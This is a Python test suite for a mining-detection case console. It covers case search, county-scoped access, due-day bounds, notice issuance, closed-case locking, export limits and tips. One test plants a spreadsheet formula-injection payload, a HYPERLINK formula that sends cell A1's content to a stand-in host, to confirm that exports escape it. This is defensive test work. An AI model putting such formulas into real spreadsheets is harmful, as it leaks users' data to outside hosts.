"""The console's lists, searches and exports, and the integrity of what it writes (issue 13, items 4-5).

Case search and filters, the findings list, tips (paged, searchable, a page of their own with history,
a case opened from one), bounded due days, the notice state only by issuing a notice, closed cases
read-only until reopened, spreadsheet cells that stay text, and limited exports.
"""

from __future__ import annotations

import io
import re
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select, update

from helpers import PASSWORD, STRATUM, Conversation, login, write_pcap
from minescope.cases import history
from minescope.cases.workflow import list_cases, sync_cases
from minescope.cli import main
from minescope.outputs.cells import safe_cell
from minescope.pipeline import Scanner, ScanOptions
from minescope.store.accounts import add_user, new_token
from minescope.store.cases import case_attachments, cases
from minescope.store.findings import findings, open_store, save_scan
from minescope.store.tips import submit_tip
from minescope.web.app import create_app


@pytest.fixture
def console(tmp_path: Path, store_target: str):  # type: ignore[no-untyped-def]
    """Two counties of Nanjing, one mining host each; users at county and national level, API tokens."""
    registry = tmp_path / "orgs.csv"
    registry.write_text("cidr,organisation,type,region_code,contact\n"
                        "10.1.0.0/16,玄武区某局,government,320102,\n"
                        "10.2.0.0/16,秦淮区某大学,university,320104,\n", encoding="utf-8")
    pcap = write_pcap(tmp_path / "c.pcap", [Conversation("10.1.0.5", 40000, "203.0.113.9", 3333, STRATUM),
                                            Conversation("10.2.0.5", 40001, "203.0.113.9", 3333, STRATUM)])
    engine = open_store(store_target)
    save_scan(engine, Scanner(ScanOptions(registry=registry)).scan([pcap]))
    sync_cases(engine)
    ids = {c.region_code: c.id for c in list_cases(engine)}
    add_user(engine, "xuanwu", PASSWORD, "analyst", "320102")
    tokens = {"national": new_token(engine, add_user(engine, "national", PASSWORD, "admin", national=True)),
              "xuanwu": new_token(engine, add_user(engine, "xuanwu-api", PASSWORD, "analyst", "320102")),
              "viewer": new_token(engine, add_user(engine, "viewer", PASSWORD, "viewer", national=True))}
    client = TestClient(create_app(store_target, secret="test"))
    return client, engine, ids, {k: {"Authorization": f"Bearer {v}"} for k, v in tokens.items()}, store_target


def _csrf(client: TestClient, path: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', client.get(path).text).group(1)  # type: ignore[union-attr]


def _ids(answer) -> list[int]:  # type: ignore[no-untyped-def]
    assert answer.status_code == 200, answer.text
    return [c["id"] for c in answer.json()]


def test_case_search_filters_sort_and_page_jump(console) -> None:  # type: ignore[no-untyped-def]
    client, engine, ids, h, _ = console
    xuanwu, qinhuai = ids["320102"], ids["320104"]
    with engine.begin() as conn:  # a wallet on one finding of the Qinhuai case
        fid = conn.execute(select(findings.c.id).where(findings.c.subject_ip == "10.2.0.5")).scalars().first()
        conn.execute(update(findings).where(findings.c.id == fid).values(wallet="45sxWalletOfTheMiner0001"))
    api = "/api/cases"
    assert _ids(client.get(api, params={"q": "玄武"}, headers=h["national"])) == [xuanwu]
    assert _ids(client.get(api, params={"org": "大学"}, headers=h["national"])) == [qinhuai]
    assert _ids(client.get(api, params={"address": "10.2.0.5"}, headers=h["national"])) == [qinhuai]
    assert _ids(client.get(api, params={"q": "10.1.0.5"}, headers=h["national"])) == [xuanwu]
    assert _ids(client.get(api, params={"wallet": "45sxWallet"}, headers=h["national"])) == [qinhuai]  # its start
    assert _ids(client.get(api, params={"wallet": "45sx"}, headers=h["national"])) == []  # too short: exact only
    assert _ids(client.get(api, params={"org_type": "university"}, headers=h["national"])) == [qinhuai]
    assert _ids(client.get(api, params={"region": "320104"}, headers=h["national"])) == [qinhuai]
    assert client.get(api, params={"region": "320104"}, headers=h["xuanwu"]).status_code == 404  # not their area
    assert _ids(client.get(api, params={"q": "大学"}, headers=h["xuanwu"])) == []  # search stays in the area
    assert client.post(f"/api/cases/{qinhuai}/assign", json={"owner": "officer-q", "due_days": 10},
                       headers=h["national"]).status_code == 200
    assert _ids(client.get(api, params={"owner": "officer-q", "state": "assigned"}, headers=h["national"])) == [qinhuai]
    day = time.strftime("%Y-%m-%d", time.gmtime(time.time() + 10 * 86400 + 8 * 3600))  # Beijing date of the due time
    assert _ids(client.get(api, params={"due_from": day, "due_to": day}, headers=h["national"])) == [qinhuai]
    assert client.get(api, params={"due_from": "tomorrow"}, headers=h["national"]).status_code == 422
    assert client.get(api, params={"state": "bogus"}, headers=h["national"]).status_code == 422
    assert client.get(api, params={"sort": "bogus"}, headers=h["national"]).status_code == 422
    assert _ids(client.get(api, params={"sort": "id", "desc": "true"}, headers=h["national"])) == \
        sorted([xuanwu, qinhuai], reverse=True)
    second = client.get(api, params={"sort": "id", "limit": 1, "page": 2}, headers=h["national"])
    assert _ids(second) == [max(xuanwu, qinhuai)] and second.headers["X-Total-Count"] == "2"
    login(client, "xuanwu")
    listing = client.get("/cases", params={"q": "玄武", "limit": 1}).text
    assert f'data-case="{xuanwu}"' in listing and 'id="case-filters"' in listing and 'data-pages="1"' in listing


def test_findings_list_searches_within_the_area(console) -> None:  # type: ignore[no-untyped-def]
    client, _, _, h, _ = console
    found = client.get("/api/findings", params={"q": "10.2.0.5"}, headers=h["national"])
    assert found.status_code == 200 and {f["subject_ip"] for f in found.json()} == {"10.2.0.5"}
    assert int(found.headers["X-Total-Count"]) == len(found.json()) >= 1
    assert client.get("/api/findings", params={"q": "10.2.0.5"}, headers=h["xuanwu"]).json() == []
    mine = client.get("/api/findings", headers=h["xuanwu"]).json()
    assert mine and all(f["region_code"].startswith("320102") for f in mine)
    login(client, "xuanwu")
    page = client.get("/findings", params={"q": "10.1.0.5"}).text
    assert 'id="finding-list"' in page and "10.1.0.5" in page and "10.2.0.5" not in page


def test_due_days_are_bounded_everywhere(console) -> None:  # type: ignore[no-untyped-def]
    client, engine, ids, h, target = console
    case = ids["320102"]
    for body in ({"owner": "x", "due_days": 0}, {"owner": "x", "due_days": 366}, {"owner": "x", "due_days": 1.5},
                 {"owner": "x"}, {"owner": "x", "due_at": time.time() + 10 * 366 * 86400}):
        r = client.post(f"/api/cases/{case}/assign", json=body, headers=h["xuanwu"])
        assert r.status_code in (409, 422) and " / " in r.json()["detail"], (body, r.text)
    r = client.post(f"/api/cases/{case}/assign", content=b'{"owner": "x", "due_at": 1e999}',
                    headers={**h["xuanwu"], "Content-Type": "application/json"})
    assert r.status_code == 422
    login(client, "xuanwu")
    for days in ("inf", "1e999", "0", "400", "-3"):
        page = client.post(f"/cases/{case}/action", data={"action": "assign", "owner": "x", "due_days": days,
                                                          "csrf": _csrf(client, f"/cases/{case}")}).text
        assert "1 到 365" in page, days
    runner = CliRunner()
    bad = runner.invoke(main, ["cases", "assign", str(case), "--owner", "x", "--due-days", "inf", "--db", target])
    assert bad.exit_code != 0 and "1 到 365" in bad.output + bad.stderr
    assert list_cases(engine, ["new"])  # nothing was assigned
    good = runner.invoke(main, ["cases", "assign", str(case), "--owner", "x", "--due-days", "30", "--db", target])
    assert good.exit_code == 0, good.output
    listing = client.get("/cases").text  # the list and the ledger still work for everyone
    assert listing.count("data-case=") == 1
    assert client.get("/api/ledger.xlsx", headers=h["national"]).status_code == 200


def test_notice_state_only_by_issuing_a_notice(  # type: ignore[no-untyped-def]
        console, monkeypatch, tmp_path: Path) -> None:
    client, engine, ids, h, target = console
    case = ids["320102"]
    assert client.post(f"/api/cases/{case}/assign", json={"owner": "x", "due_days": 7},
                       headers=h["xuanwu"]).status_code == 200
    r = client.post(f"/api/cases/{case}/advance", json={"to_state": "notice_issued"}, headers=h["xuanwu"])
    assert r.status_code == 409 and "整改通知书" in r.json()["detail"]
    # the CLI writes the PDF first: a file it cannot write leaves the case as it was
    run = CliRunner().invoke(main, ["cases", "notice", str(case), "-o", str(tmp_path / "missing" / "n.pdf"),
                                    "--issue", "--db", target])
    assert run.exit_code != 0
    with engine.connect() as conn:
        assert conn.execute(select(cases.c.state).where(cases.c.id == case)).scalar_one() == "assigned"
        assert conn.execute(select(case_attachments.c.id)).first() is None

    def broken(*_a, **_k):  # type: ignore[no-untyped-def]
        raise RuntimeError("renderer failed")

    monkeypatch.setattr("minescope.outputs.notice.notice_pdf", broken)
    with pytest.raises(RuntimeError):
        client.post(f"/api/cases/{case}/notice", headers=h["xuanwu"])
    with engine.connect() as conn:
        assert conn.execute(select(cases.c.state).where(cases.c.id == case)).scalar_one() == "assigned"
    monkeypatch.undo()
    issued = client.post(f"/api/cases/{case}/notice", headers=h["xuanwu"])
    assert issued.status_code == 200 and issued.content.startswith(b"%PDF")
    with engine.connect() as conn:
        assert conn.execute(select(cases.c.state).where(cases.c.id == case)).scalar_one() == "notice_issued"
        (sha,) = conn.execute(select(case_attachments.c.sha256).where(case_attachments.c.case_id == case)).one()
    assert sha == issued.headers["X-Content-SHA256"] and history.verify(engine) == []


def test_closed_case_is_read_only_until_reopened(console) -> None:  # type: ignore[no-untyped-def]
    client, engine, ids, h, _ = console
    case = ids["320102"]
    assert client.post(f"/api/cases/{case}/close", json={"reason": "false_positive"},
                       headers=h["xuanwu"]).status_code == 200
    for path, kw in ((f"/api/cases/{case}/comments", {"json": {"text": "late"}}),
                     (f"/api/cases/{case}/tasks", {"json": {"text": "late"}}),
                     (f"/api/cases/{case}/attachments", {"files": {"file": ("a.jpg", b"jpeg")}})):
        r = client.post(path, headers=h["xuanwu"], **kw)
        assert r.status_code == 409 and "只读" in r.json()["detail"] and "read-only" in r.json()["detail"], path
    login(client, "xuanwu")
    page = client.get(f"/cases/{case}").text
    assert 'id="reopen"' in page and 'value="comment"' not in page
    client.post(f"/cases/{case}/action", data={"action": "reopen", "csrf": _csrf(client, f"/cases/{case}")})
    assert client.post(f"/api/cases/{case}/comments", json={"text": "seen again"},
                       headers=h["xuanwu"]).status_code == 200
    detail = client.get(f"/api/cases/{case}", headers=h["xuanwu"]).json()
    assert detail["case"]["state"] == "new" and detail["case"]["reopened"] == 1
    assert [x["action"] for x in detail["history"]][-2:] == ["reopen", "comment"]
    assert detail["history"][-2]["actor"] == "xuanwu" and history.verify(engine) == []


def test_ledger_cells_never_become_formulas(console) -> None:  # type: ignore[no-untyped-def]
    client, engine, ids, h, _ = console
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    with engine.begin() as conn:
        conn.execute(update(cases).where(cases.c.id == ids["320102"]).values(title=evil, owner="@SUM(1+1)",
                                                                            due_at=float("inf")))
    book = load_workbook(io.BytesIO(client.get("/api/ledger.xlsx", headers=h["national"]).content))
    values = [c.value for row in book.worksheets[0].iter_rows() for c in row]
    assert "'" + evil in values and "'@SUM(1+1)" in values
    assert not any(isinstance(v, str) and v.startswith(("=", "@", "+", "-")) for v in values)
    assert [safe_cell(v) for v in ("-1", "+1", "\tx", "\rx", "plain", 3)] == ["'-1", "'+1", "'\tx", "'\rx", "plain", 3]
    assert client.get("/cases", headers=h["national"]).status_code == 200  # an infinite due date shows as –


def test_exports_are_limited_by_role_and_rate(console) -> None:  # type: ignore[no-untyped-def]
    client, _, ids, h, _ = console
    assert client.get(f"/cases/{ids['320102']}/notice.pdf", headers=h["viewer"]).status_code == 403
    answers = [client.get("/api/ledger.xlsx", headers=h["viewer"]).status_code for _ in range(7)]
    assert answers[:6] == [200] * 6 and answers[6] == 429


def test_tips_paged_searchable_with_history_and_a_case(console) -> None:  # type: ignore[no-untyped-def]
    client, engine, _, h, _ = console
    saw = "夜间机房噪声很大，疑似挖矿，用电异常"
    codes = [submit_tip(engine, "320102", f"玄武区某数据中心{i}", saw) for i in range(3)]
    submit_tip(engine, "320104", "秦淮区某公司", "楼顶有大量矿机在运行，请核查")
    tips = client.get("/api/tips", params={"limit": 2}, headers=h["xuanwu"])
    assert tips.headers["X-Total-Count"] == "3" and len(tips.json()) == 2  # only the county it concerns
    found = client.get("/api/tips", params={"q": "数据中心1"}, headers=h["xuanwu"]).json()
    assert [t["subject"] for t in found] == ["玄武区某数据中心1"]
    assert len(client.get("/api/tips", params={"q": codes[2]}, headers=h["national"]).json()) == 1
    tip_id = client.get("/api/tips", params={"q": "数据中心0"}, headers=h["xuanwu"]).json()[0]["id"]
    assert client.post(f"/api/tips/{tip_id}/status", json={"to_state": "dismissed"},
                       headers=h["xuanwu"]).status_code == 200
    detail = client.get(f"/api/tips/{tip_id}", headers=h["xuanwu"]).json()
    (event,) = detail["history"]
    assert event["actor"] == "xuanwu-api" and event["before"] == {"status": "received"} \
        and event["after"] == {"status": "dismissed"}
    login(client, "xuanwu")
    page = client.get(f"/tips/{tip_id}").text
    assert re.search(r'<option value="dismissed" selected>', page) and 'id="open-case"' in page
    opened = client.post(f"/tips/{tip_id}/case", data={"csrf": _csrf(client, f"/tips/{tip_id}")},
                         follow_redirects=False)
    case_id = int(opened.headers["location"].rsplit("/", 1)[1])
    case = client.get(f"/api/cases/{case_id}", headers=h["xuanwu"]).json()
    assert case["case"]["region_code"] == "320102" and len(case["findings"]) == 1
    assert case["history"][-1]["action"] == "from_tip"
    assert client.get(f"/api/tips/{tip_id}", headers=h["xuanwu"]).json()["tip"]["status"] == "case_opened"
    other = client.get("/api/tips", headers=h["national"], params={"q": "秦淮"}).json()[0]["id"]
    assert client.get(f"/tips/{other}").status_code == 404  # another county's tip
    assert 'id="tip-list"' in client.get("/tips", params={"status": "case_opened"}).text
